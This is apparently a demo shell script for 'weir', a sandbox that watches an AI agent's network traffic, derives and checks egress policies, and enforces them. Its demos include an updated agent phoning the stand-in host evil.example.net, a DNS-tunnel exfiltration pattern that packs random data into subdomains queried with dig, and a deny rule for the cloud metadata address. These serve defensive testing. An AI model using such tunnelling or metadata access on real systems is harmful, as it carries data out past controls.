#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Inside the lab: from watching an agent to its policy, and what to do with one.
# usage: demo/run.sh (which starts this)
set -u
here=$(cd "$(dirname "$0")" && pwd)
weir=$1
DEMO_OUT=$LAB_TMP/demo
export DEMO_OUT
mkdir -p "$DEMO_OUT"
. "$here/show.sh"
cd "$LAB_TMP" || exit 1
cp "$here/worker.sh" .
run="run --backend netns --upstream-ca $LAB_CA"
# Paths of the lab's own would only be noise on the screen.
sandbox() {
	printf '   $ weir run --backend netns %s\n' "$*"
	"$weir" $run "$@" 2>&1 | folded
}

heading '1. Watch an agent: nothing is held back, what a policy would deny is told'
sandbox --policy none --observe --tls-intercept --audit first.jsonl -- sh worker.sh | tee "$DEMO_OUT/shown"
claim 'the agent did its work' said 'bytes fetched: 200000'
claim 'a policy of nothing would have denied all of it' said 'would have been denied'

heading '2. The smallest policy that allows what it used'
printf '   $ weir policy suggest first.jsonl >agent.json\n'
"$weir" policy suggest first.jsonl >agent.json 2>"$DEMO_OUT/notes"
sed 's/^/     /' agent.json
shown policy check --strict agent.json
claim 'it is valid, and nothing in it looks wrong' said 'valid, 2 rules'
shown policy replay agent.json first.jsonl
claim 'the same run would be allowed all it did' said '0 now denied'

heading '3. A colleague writes one by hand, in YAML'
cat >ours.yaml <<'END'
policy:
  rules:
    - {id: ours, action: allow, destination: .example.com, ports: [443]}
    - {id: no-files, action: deny, destination: files.example.com, ports: [443]}
END
sed 's/^/     /' ours.yaml
shown policy check ours.yaml
claim 'check sees that the second rule does not do what it says, and why' \
	said '(no-files) denies nothing: rule 0 (ours)'
cat >cases <<'END'
deny   files.example.com:443
allow  api.example.com:443
deny   169.254.169.254:80
END
shown policy test ours.yaml cases
claim 'a table of expectations finds it too' [ $? -eq 1 ]

heading '4. The agent after an update, under the policy of step 2'
sandbox --policy agent.json --audit second.jsonl -- sh worker.sh updated
claim 'what it phoned was not even looked up' [ "$(cat "$DEMO_OUT/phoned_status")" = 6 ]
claim 'and no query for it left' absent evil.example.net "$LAB_LOG"
shown why evil.example.net --audit second.jsonl
claim 'weir why says which rule would change that' said 'allow@evil.example.net'

heading '5. Another policy while a download runs'
cat >live.json <<'END'
{ "policy": { "rules": [
    { "id": "slow", "action": "allow", "destination": "slow.example.com", "ports": [80] } ] } }
END
printf '   $ weir run --backend netns --name downloads --policy live.json -- curl ... &\n'
"$weir" $run --name downloads --policy live.json --audit live.jsonl -- \
	curl -sS -N -m 20 -o "$DEMO_OUT/download" 'http://slow.example.com/drip?n=100&ms=100' \
	2>"$DEMO_OUT/curl" &
download=$!
began=$(date +%s)
while [ ! -s "$DEMO_OUT/download" ] && [ $(($(date +%s) - began)) -lt 10 ]; do sleep 0.1; done
claim 'bytes are coming in' [ -s "$DEMO_OUT/download" ]
shown ctl downloads policy set none
claim 'the new policy is in force, the flow is reset' grep -q '[1-9][0-9]* flows\{0,1\} reset' "$DEMO_OUT/shown"
wait "$download"
status=$?
sed 's/^/     /' "$DEMO_OUT/curl"
claim 'the download ended at once, unfinished' \
	[ "$status" -ne 0 -a $(($(date +%s) - began)) -lt 9 ]

heading '6. A tunnel in the names of an allowed domain'
cat >wide.json <<'END'
{ "policy": { "rules": [ { "action": "allow", "destination": ".evil.example.net" } ] } }
END
od -An -v -tx1 -N9600 /dev/urandom | tr -d ' \n' | fold -w 48 | sed 's/$/.evil.example.net A/' >"$DEMO_OUT/names"
echo >>"$DEMO_OUT/names"
printf '   $ weir run --backend netns --policy wide.json -- dig -f names    # %d names, 24 bytes in each\n' \
	"$(grep -c . "$DEMO_OUT/names")"
"$weir" $run --policy wide.json --audit tunnel.jsonl -- \
	dig +noall +comments +tries=1 +time=2 -f "$DEMO_OUT/names" >"$DEMO_OUT/dig" 2>&1
escaped=$(grep -F '"kind": "dns"' "$LAB_LOG" | grep -o '[0-9a-f]\{48\}\.evil' | sort -u | wc -l)
grep -m 1 'EDE' "$DEMO_OUT/dig" | sed 's/^; /     /' | cut -c1-79
printf '     %d names reached the server, the other %d were stopped\n' "$escaped" \
	$(($(grep -c . "$DEMO_OUT/names") - escaped))
claim 'the budget let less than half of it through' [ "$escaped" -gt 0 -a "$escaped" -lt 200 ]
claim 'and the record says so' grep -qF '"result":"budget"' tunnel.jsonl

heading '7. A tighter policy, before it is in force'
cat >tighter.yaml <<'END'
policy:
  default_ingress: deny
  rules:
    - {id: api, action: allow, destination: api.example.com, ports: [443],
       http: {methods: [POST], paths: [/v1/chat]}}
END
sed 's/^/     /' tighter.yaml
shown policy diff agent.json tighter.yaml
claim 'diff says what changes, by example' said 'now denied'
shown policy replay tighter.yaml first.jsonl
claim 'replay says what of the first run it would have stopped' \
	grep -q '^ *deny .*GET files.example.com' "$DEMO_OUT/shown"
"$weir" policy nft live.json >table.nft 2>"$DEMO_OUT/notes"
printf '   $ weir policy nft live.json >table.nft    # for the kernel: %d lines\n' "$(wc -l <table.nft)"
claim 'the address and port part of a policy is a table that nft takes' nft -c -f table.nft

heading 'The part of the policy'
[ "$bad" -eq 0 ] && echo '   All of it is true.' || echo "   $bad claims are not true."
[ "$bad" -eq 0 ]
